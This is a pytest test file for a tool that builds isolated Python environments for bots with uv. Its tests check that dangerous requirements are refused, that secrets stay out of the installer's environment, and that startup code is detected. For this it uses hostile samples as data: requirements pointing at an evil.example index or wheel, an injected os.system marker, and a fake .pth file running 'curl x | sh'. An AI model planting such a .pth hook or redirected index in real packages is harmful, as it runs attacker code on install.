"""A bot's venv: built by uv from a shared cache, holding the kernel, the SDK and its own deps.

The tests run real uv against the real package index into temporary homes. One uv cache is
shared by the whole session (as all bots share one in a home), so only the first build pays
for downloads.
"""

from __future__ import annotations

import ast
import importlib.metadata
import json
import os
import stat
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

import watchdog_lab
from watchdog_lab._version import __version__
from watchdog_lab.bots.environment import (
    SDK_SOURCES,
    EnvironmentReport,
    Package,
    _layout_warnings,
    _parse_compiled,
    build_environment,
    find_startup_code,
    installed_packages,
    site_packages_dir,
    unique_disk_bytes,
)
from watchdog_lab.bots.errors import EnvironmentBuildFailed, StartupCodeRefused

PACKAGE_DIR = Path(watchdog_lab.__file__).resolve().parent


@pytest.fixture(scope="session")
def baseline(tmp_path_factory: pytest.TempPathFactory, uv_cache: Path) -> EnvironmentReport:
    """A bot with no packages of its own: ipykernel and the SDK only."""
    home = tmp_path_factory.mktemp("home")
    return build_environment(home / "bots" / "b0" / "venv", [], cache_dir=uv_cache)


@pytest.fixture(scope="module")
def with_iniconfig(
    tmp_path_factory: pytest.TempPathFactory, uv_cache: Path
) -> tuple[EnvironmentReport, list[str]]:
    """A bot that needs one small pure-Python wheel from the index, with its progress lines."""
    home = tmp_path_factory.mktemp("home")
    lines: list[str] = []
    report = build_environment(
        home / "bots" / "b1" / "venv", ["iniconfig"], cache_dir=uv_cache, progress=lines.append
    )
    return report, lines


def run_in(report: EnvironmentReport, code: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(report.python), "-c", code],
        capture_output=True,
        text=True,
        timeout=120,
        env={"PATH": os.defpath},
        # Not the repository root: its watchdog_lab folder would shadow the venv's.
        cwd=report.venv_dir.parent,
        check=False,
    )


def sentinel_uv(tmp_path: Path) -> tuple[str, Path]:
    """A stand-in for uv that records that it was called, with what environment, and fails."""
    marker = tmp_path / "uv-was-called"
    script = tmp_path / "fake-uv"
    script.write_text(f'#!/bin/sh\nenv > "{marker}"\nexit 3\n', encoding="utf-8")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return str(script), marker


# --- refused before uv runs -----------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    ["--index-url=https://evil.example/simple", "-e .", "-rrequirements.txt", " --pre"],
)
def test_a_requirement_starting_with_a_dash_is_refused_before_uv_runs(
    tmp_path: Path, hostile: str
) -> None:
    uv, marker = sentinel_uv(tmp_path)
    venv = tmp_path / "venv"
    with pytest.raises(EnvironmentBuildFailed, match="installer option"):
        build_environment(venv, ["six", hostile], cache_dir=tmp_path / "cache", uv_bin=uv)
    assert not marker.exists()
    assert not venv.exists()


@pytest.mark.parametrize(
    "requirement",
    ["six @ https://evil.example/six-1.0-py3-none-any.whl", "six @ file:///srv/six.whl"],
)
def test_a_url_or_path_requirement_is_refused(tmp_path: Path, requirement: str) -> None:
    uv, marker = sentinel_uv(tmp_path)
    with pytest.raises(EnvironmentBuildFailed, match="package index only"):
        build_environment(tmp_path / "venv", [requirement], cache_dir=tmp_path, uv_bin=uv)
    assert not marker.exists()


@pytest.mark.parametrize("requirement", ["six; os.system('x')", "six==1.0 --hash=abc", "", "s ix"])
def test_an_invalid_requirement_is_refused(tmp_path: Path, requirement: str) -> None:
    uv, marker = sentinel_uv(tmp_path)
    with pytest.raises(EnvironmentBuildFailed):
        build_environment(tmp_path / "venv", [requirement], cache_dir=tmp_path, uv_bin=uv)
    assert not marker.exists()


@pytest.mark.parametrize("requirement", ["watchdog-lab", "Watchdog_Lab[lab]>=0.1"])
def test_the_full_watchdog_lab_distribution_is_refused(tmp_path: Path, requirement: str) -> None:
    uv, marker = sentinel_uv(tmp_path)
    with pytest.raises(EnvironmentBuildFailed, match="already has the WatchDog SDK"):
        build_environment(tmp_path / "venv", [requirement], cache_dir=tmp_path, uv_bin=uv)
    assert not marker.exists()


def test_an_existing_venv_is_not_overwritten(tmp_path: Path) -> None:
    uv, marker = sentinel_uv(tmp_path)
    venv = tmp_path / "venv"
    venv.mkdir()
    (venv / "keep.txt").write_text("mine")
    with pytest.raises(EnvironmentBuildFailed, match="already exists"):
        build_environment(venv, [], cache_dir=tmp_path / "cache", uv_bin=uv)
    assert not marker.exists()
    assert (venv / "keep.txt").read_text() == "mine"


def test_a_file_where_the_venv_should_go_is_not_replaced(tmp_path: Path) -> None:
    uv, marker = sentinel_uv(tmp_path)
    venv = tmp_path / "venv"
    venv.write_text("mine")
    with pytest.raises(EnvironmentBuildFailed, match="already exists"):
        build_environment(venv, [], cache_dir=tmp_path / "cache", uv_bin=uv)
    assert not marker.exists()
    assert venv.read_text() == "mine"


@pytest.mark.skipif(
    not Path("/dev/shm").is_dir(), reason="needs a second filesystem: /dev/shm (tmpfs)"
)
def test_a_cache_on_another_filesystem_is_warned_about_before_the_build(tmp_path: Path) -> None:
    with tempfile.TemporaryDirectory(dir="/dev/shm") as other:
        if Path(other).stat().st_dev == tmp_path.stat().st_dev:
            pytest.skip("/dev/shm is on the same filesystem as the temporary folder here")
        warnings = _layout_warnings(tmp_path / "venv", Path(other), wheels_only=True)
    assert len(warnings) == 1 and "another filesystem" in warnings[0]
    (tmp_path / "cache").mkdir()
    assert _layout_warnings(tmp_path / "venv", tmp_path / "cache", wheels_only=True) == []


def test_resolved_packages_name_their_requested_roots_through_a_dependency_cycle() -> None:
    compiled = (
        "alpha==1.0  # via -r bot.in\n"
        "beta==2.0  # via alpha, gamma\n"
        "gamma==3.0  # via beta\n"
        "ipykernel==6.29.5  # via -r baseline.in\n"
    )
    packages = {p.name: p.required_by for p in _parse_compiled(compiled, {"bot.in", "baseline.in"})}
    assert packages == {
        "alpha": ("alpha",),
        "beta": ("alpha",),
        "gamma": ("alpha",),
        "ipykernel": ("ipykernel",),
    }


def test_uv_runs_with_the_clean_environment_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WATCHDOG_TEST_SECRET", "do-not-leak-0123456789")
    uv, marker = sentinel_uv(tmp_path)
    with pytest.raises(EnvironmentBuildFailed, match="exit 3"):
        build_environment(tmp_path / "venv", [], cache_dir=tmp_path / "cache", uv_bin=uv)
    seen = dict(line.split("=", 1) for line in marker.read_text().splitlines() if "=" in line)
    assert "WATCHDOG_TEST_SECRET" not in seen
    assert seen["UV_CACHE_DIR"] == str(tmp_path / "cache")
    assert not (tmp_path / "venv").exists()


# --- what a built venv holds ----------------------------------------------------------------


def test_the_sdk_imports_in_the_venv_and_jupyter_server_does_not(
    baseline: EnvironmentReport,
) -> None:
    ok = run_in(
        baseline,
        "import watchdog_lab as wd, watchdog_lab.sdk.kalshi, cryptography\n"
        "assert callable(wd.connection) and callable(wd.connections)\n"
        "print(wd.__version__, wd.__file__)",
    )
    assert ok.returncode == 0, ok.stderr
    version, location = ok.stdout.split()
    assert version == __version__
    assert Path(location).is_relative_to(baseline.venv_dir)
    for module in ("jupyter_server", "watchdog_lab.vault", "watchdog_lab.server", "jupyterlab"):
        missing = run_in(baseline, f"import {module}")
        assert missing.returncode != 0, f"{module} is importable in a bot venv"
        assert "ModuleNotFoundError" in missing.stderr


def test_the_sdk_is_an_installed_distribution_with_a_valid_record(
    baseline: EnvironmentReport,
) -> None:
    assert Package("watchdog-lab", __version__) in baseline.baseline
    check = run_in(
        baseline,
        "import base64, hashlib, importlib.metadata as md, pathlib, json\n"
        "dist = md.distribution('watchdog-lab')\n"
        "bad = [str(f) for f in dist.files if f.hash and base64.urlsafe_b64encode("
        "hashlib.sha256(f.locate().read_bytes()).digest()).rstrip(b'=').decode() != f.hash.value]\n"
        "print(json.dumps({'requires': dist.requires, 'files': len(dist.files), 'bad': bad}))",
    )
    assert check.returncode == 0, check.stderr
    facts = json.loads(check.stdout)
    assert facts["bad"] == []
    assert facts["requires"] == ["cryptography>=42"]
    sdk_py = [p for p in (PACKAGE_DIR / "sdk").glob("*.py")]
    assert facts["files"] >= len(sdk_py) + 2


def test_everything_the_package_root_imports_is_part_of_the_copied_sdk() -> None:
    tree = ast.parse((PACKAGE_DIR / "__init__.py").read_text(encoding="utf-8"))
    shipped = {Path(entry).stem for entry in SDK_SOURCES}
    for node in tree.body:
        if isinstance(node, ast.ImportFrom) and node.level == 1:
            top = (node.module or "").split(".")[0]
            assert top in shipped, f"watchdog_lab/__init__.py imports .{top}, not in a bot venv"
        if isinstance(node, ast.ImportFrom) and node.level == 0:
            assert not (node.module or "").startswith("watchdog_lab")
        if isinstance(node, ast.Import):
            assert not any(alias.name.startswith("watchdog_lab") for alias in node.names)


def _module_level_package_imports(path: Path) -> Iterator[tuple[int, str]]:
    """(line, first package part) of each ``watchdog_lab`` import that runs on import.

    Imports inside functions are left out: they run only when called, and the package root
    keeps its Jupyter hooks' imports there precisely so that a bot never makes them.
    """
    relative = path.relative_to(PACKAGE_DIR).with_suffix("")
    here = list(relative.parts[:-1])
    pending: list[ast.AST] = [ast.parse(path.read_text(encoding="utf-8"))]
    while pending:
        node = pending.pop()
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)):
            continue
        pending.extend(ast.iter_child_nodes(node))
        if isinstance(node, ast.ImportFrom) and node.level:
            base = here[: len(here) - node.level + 1]
            dotted = [*base, *(node.module or "").split(".")]
            parts = [part for part in dotted if part] or [a.name for a in node.names]
            yield node.lineno, parts[0]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("watchdog_lab."):
            yield node.lineno, (node.module or "").split(".")[1]
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.startswith("watchdog_lab."):
                    yield node.lineno, alias.name.split(".")[1]


def test_every_package_module_the_copied_sdk_imports_is_copied_too() -> None:
    """A bot venv holds only SDK_SOURCES: an import reaching past them fails in every bot."""
    shipped = {Path(entry).stem for entry in SDK_SOURCES}
    files: list[Path] = []
    for entry in SDK_SOURCES:
        source = PACKAGE_DIR / entry
        files += [source] if source.is_file() else sorted(source.rglob("*.py"))
    missing = [
        f"{path.relative_to(PACKAGE_DIR)}:{line} imports {top}"
        for path in files
        for line, top in _module_level_package_imports(path)
        if top not in shipped
    ]
    assert missing == []


def test_ipykernel_matches_the_promoting_environment(baseline: EnvironmentReport) -> None:
    versions = {pkg.name: pkg.version for pkg in baseline.baseline}
    assert versions["ipykernel"] == importlib.metadata.version("ipykernel")
    assert versions["cryptography"] == importlib.metadata.version("cryptography")


def test_a_bot_without_packages_has_nothing_new_and_no_startup_code(
    baseline: EnvironmentReport,
) -> None:
    assert baseline.new == ()
    assert baseline.changed == ()
    assert baseline.startup_code == ()
    assert "jupyter-server" not in {pkg.name for pkg in baseline.packages}


def test_no_installer_lands_in_the_bot_venv(baseline: EnvironmentReport) -> None:
    names = {pkg.name for pkg in baseline.packages}
    assert not names & {"pip", "setuptools", "wheel", "uv"}
    assert not (baseline.venv_dir / "bin" / "pip").exists()


def test_a_small_wheel_from_the_index_lands_and_is_reported_new(
    with_iniconfig: tuple[EnvironmentReport, list[str]],
) -> None:
    report, _ = with_iniconfig
    assert [pkg.name for pkg in report.new] == ["iniconfig"]
    assert "iniconfig" not in {pkg.name for pkg in report.baseline}
    assert report.changed == ()
    imported = run_in(report, "import iniconfig; print(iniconfig.__file__)")
    assert imported.returncode == 0, imported.stderr
    assert Path(imported.stdout.strip()).is_relative_to(report.venv_dir)


def test_progress_receives_the_steps_and_uvs_own_lines(
    with_iniconfig: tuple[EnvironmentReport, list[str]],
) -> None:
    report, lines = with_iniconfig
    new = report.new[0]
    assert any(line.strip() == f"+ {new.name}=={new.version}" for line in lines)
    assert any(line.startswith("Installing the bot's packages: iniconfig") for line in lines)
    assert lines[-1].startswith("Environment ready")


def test_a_bot_requirement_that_moves_a_baseline_package_is_reported(
    tmp_path: Path, uv_cache: Path, baseline: EnvironmentReport
) -> None:
    before = {pkg.name: pkg.version for pkg in baseline.baseline}["traitlets"]
    older = "5.14.3" if before != "5.14.3" else "5.14.2"
    report = build_environment(tmp_path / "venv", [f"traitlets=={older}"], cache_dir=uv_cache)
    assert [(c.name, c.before, c.after) for c in report.changed] == [("traitlets", before, older)]
    assert report.new == ()


@pytest.mark.parametrize("wheels_only", [True, False])
def test_an_sdist_only_package_is_refused_at_resolution_even_with_wheels_only_off(
    tmp_path: Path, uv_cache: Path, wheels_only: bool
) -> None:
    # docopt 0.6.2 (2014) was only ever published as a source archive; building it would run
    # its setup.py here, outside the sandbox, so it is refused whatever wheels_only says.
    venv = tmp_path / "venv"
    with pytest.raises(EnvironmentBuildFailed) as failure:
        build_environment(venv, ["docopt==0.6.2"], cache_dir=uv_cache, wheels_only=wheels_only)
    message = str(failure.value)
    assert "resolving the bot's packages" in message
    assert "docopt" in message and "wheel" in message
    assert "Resolved" not in message
    assert not venv.exists()


def test_a_code_running_pth_from_a_real_package_is_installed_only_when_allowed(
    tmp_path: Path, uv_cache: Path
) -> None:
    # future-fstrings ships aaaaa_future_fstrings.pth, which imports it at every start.
    with pytest.raises(StartupCodeRefused, match=r"aaaaa_future_fstrings\.pth"):
        build_environment(tmp_path / "refused", ["future-fstrings==1.2.0"], cache_dir=uv_cache)
    assert not (tmp_path / "refused").exists()
    report = build_environment(
        tmp_path / "venv",
        ["future-fstrings==1.2.0"],
        cache_dir=uv_cache,
        allow_startup_code=["Future_Fstrings"],
    )
    assert [(f.file, f.owner, f.kind) for f in report.startup_code] == [
        ("aaaaa_future_fstrings.pth", "future-fstrings", "pth")
    ]
    assert report.startup_code[0].lines[0].startswith("import ")


def test_a_timeout_fails_the_build_and_leaves_no_venv(tmp_path: Path, uv_cache: Path) -> None:
    venv = tmp_path / "venv"
    with pytest.raises(EnvironmentBuildFailed, match="Timed out"):
        build_environment(venv, ["iniconfig"], cache_dir=uv_cache, timeout=0.05)
    assert not venv.exists()


# --- disk -----------------------------------------------------------------------------------


def test_two_venvs_from_one_cache_share_inodes_and_each_costs_little(
    tmp_path: Path, uv_cache: Path, baseline: EnvironmentReport
) -> None:
    other = build_environment(tmp_path / "venv", [], cache_dir=uv_cache)
    relative = Path("IPython") / "core" / "interactiveshell.py"
    first = site_packages_dir(baseline.venv_dir) / relative
    second = site_packages_dir(other.venv_dir) / relative
    assert first.stat().st_ino == second.stat().st_ino
    total = sum(p.lstat().st_blocks * 512 for p in other.venv_dir.rglob("*"))
    unique = unique_disk_bytes(other.venv_dir)
    assert unique < 0.2 * total
    assert unique < 20 * 1024 * 1024


def test_unique_disk_bytes_ignores_files_linked_from_outside(tmp_path: Path) -> None:
    tree, outside = tmp_path / "tree", tmp_path / "outside"
    tree.mkdir()
    outside.mkdir()
    for name in ("a.bin", "b.bin"):
        (tree / name).write_bytes(os.urandom(256 * 1024))
    before = unique_disk_bytes(tree)
    os.link(tree / "a.bin", outside / "a.bin")
    shared = (tree / "a.bin").stat().st_blocks * 512
    assert unique_disk_bytes(tree) == before - shared
    os.link(tree / "b.bin", tree / "b-again.bin")
    assert unique_disk_bytes(tree) == before - shared


# --- startup code -------------------------------------------------------------------------


def fake_site(tmp_path: Path, files: dict[str, str], records: dict[str, list[str]]) -> Path:
    site = tmp_path / "site-packages"
    site.mkdir(parents=True)
    for name, text in files.items():
        (site / name).write_text(text, encoding="utf-8")
    for dist, owned in records.items():
        info = site / f"{dist}.dist-info"
        info.mkdir()
        (info / "RECORD").write_text("".join(f"{f},sha256=x,1\n" for f in owned))
    return site


def test_pth_lines_that_import_are_found_and_path_lines_are_not(tmp_path: Path) -> None:
    site = fake_site(
        tmp_path,
        {
            "evil.pth": "# comment\n/some/path\nimport os; os.system('curl x | sh')\n",
            "paths.pth": "/opt/lib\n ./relative\n",
            "indented.pth": "  import os\n",
            "tabbed.pth": "import\tos\n",
        },
        {"evil-1.0": ["evil.pth"]},
    )
    found = {f.file: f for f in find_startup_code(site)}
    assert set(found) == {"evil.pth", "tabbed.pth"}
    assert found["evil.pth"].owner == "evil"
    assert found["evil.pth"].lines == ("import os; os.system('curl x | sh')",)


def test_known_startup_files_are_exempt_only_when_owned_as_expected(tmp_path: Path) -> None:
    site = fake_site(
        tmp_path,
        {
            "_virtualenv.pth": "import _virtualenv\n",
            "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n",
        },
        {"setuptools-80.0.0": ["distutils-precedence.pth"]},
    )
    assert find_startup_code(site) == []

    impostor = fake_site(
        tmp_path / "impostor",
        {"distutils-precedence.pth": "import os\n", "_virtualenv.pth": "import evil\n"},
        {"innocent_pkg-1.0": ["distutils-precedence.pth", "_virtualenv.pth"]},
    )
    assert {(f.file, f.owner) for f in find_startup_code(impostor)} == {
        ("distutils-precedence.pth", "innocent-pkg"),
        ("_virtualenv.pth", "innocent-pkg"),
    }


def test_sitecustomize_in_site_packages_is_reported(tmp_path: Path) -> None:
    site = fake_site(tmp_path, {"sitecustomize.py": "print('hi')\n"}, {"sneaky-2.0": []})
    assert [(f.file, f.kind) for f in find_startup_code(site)] == [("sitecustomize.py", "module")]


@pytest.mark.parametrize(
    "entry",
    [
        "sitecustomize/__init__.py",
        "usercustomize/__init__.pyc",
        "sitecustomize.pyc",
        "usercustomize.cpython-312-x86_64-linux-gnu.so",
    ],
)
def test_sitecustomize_and_usercustomize_are_found_as_any_importable_form(
    tmp_path: Path, entry: str
) -> None:
    site = tmp_path / "site-packages"
    (site / entry).parent.mkdir(parents=True, exist_ok=True)
    (site / entry).write_text("")
    top = entry.split("/")[0]
    assert [(f.file, f.kind) for f in find_startup_code(site)] == [(top, "module")]


def test_a_sitecustomize_distribution_folder_alone_is_not_start_up_code(tmp_path: Path) -> None:
    site = fake_site(tmp_path, {"sitecustomize.pth": "/only/a/path\n"}, {"sitecustomize-1.0": []})
    assert find_startup_code(site) == []


def test_installed_packages_are_read_from_metadata_on_disk(baseline: EnvironmentReport) -> None:
    listed = installed_packages(site_packages_dir(baseline.venv_dir))
    assert sorted(listed.values()) == list(baseline.packages)
